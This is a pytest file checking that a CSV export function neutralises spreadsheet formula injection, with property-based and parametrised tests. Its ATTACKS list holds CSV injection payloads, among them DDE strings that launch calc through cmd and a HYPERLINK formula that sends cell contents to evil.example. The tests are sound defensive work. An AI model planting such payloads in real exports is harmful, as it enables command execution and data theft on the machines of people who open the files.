"""`csv_lines` writes what a spreadsheet shows as text, and what a CSV reader reads as it was."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stockade.boundary import csv_lines
from stockade.boundary.uploads.csv_lines import Cell


def cells(text: str) -> list[list[str]]:
    """The cells as a spreadsheet's importer takes them."""
    return list(csv.reader(io.StringIO(text, newline="")))


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet evaluates it: OWASP's list, blanks trimmed as some importers do."""
    return cell.lstrip(" ").startswith(
        ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    )


ATTACKS = [
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    '";=1+1;"',
    "x\r\n=1+1",
    '=1+1";=1+1',
]


@pytest.mark.asvs("V1.2.10")
@pytest.mark.parametrize("attack", ATTACKS)
def test_formulas_are_text(attack: str) -> None:
    naive = io.StringIO(newline="")
    naive.write(f"name,{attack}\r\n")  # as code without a library writes it
    assert any(is_formula(cell) for row in cells(naive.getvalue()) for cell in row) or "=" in attack
    [row] = cells("".join(csv_lines([["name", attack]])))
    assert len(row) == 2
    assert not any(is_formula(cell) for cell in row)
    assert row[1].removeprefix("'") == attack


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if is_formula(attack)])
def test_the_same_cells_are_formulas_with_the_standard_library(attack: str) -> None:
    output = io.StringIO(newline="")
    csv.writer(output).writerow(["name", attack])
    assert is_formula(cells(output.getvalue())[0][1])


def test_honest_cells_arrive_as_they_are() -> None:
    row = ["Ann", 'say "hi"', "a,b", "line\nbreak", "Ürsula", "a=b", "x@example.org", "2-1", ""]
    assert cells("".join(csv_lines([row]))) == [row]
    numbers: list[Cell] = [-5, 1.5, Decimal("-2.50"), 0, None]
    assert cells("".join(csv_lines([numbers]))) == [["-5", "1.5", "-2.50", "0", ""]]


def test_other_values_are_refused() -> None:
    with pytest.raises(TypeError):
        list(csv_lines([[object()]]))  # type: ignore[list-item]


@given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=4), max_size=4))
def test_whatever_is_written_holds_no_formula_and_no_other_cells(rows: list[list[str]]) -> None:
    text = "".join(csv_lines(rows))
    read = cells(text)
    assert [len(row) for row in read] == [len(row) for row in rows]
    assert not any(is_formula(cell) for row in read for cell in row)
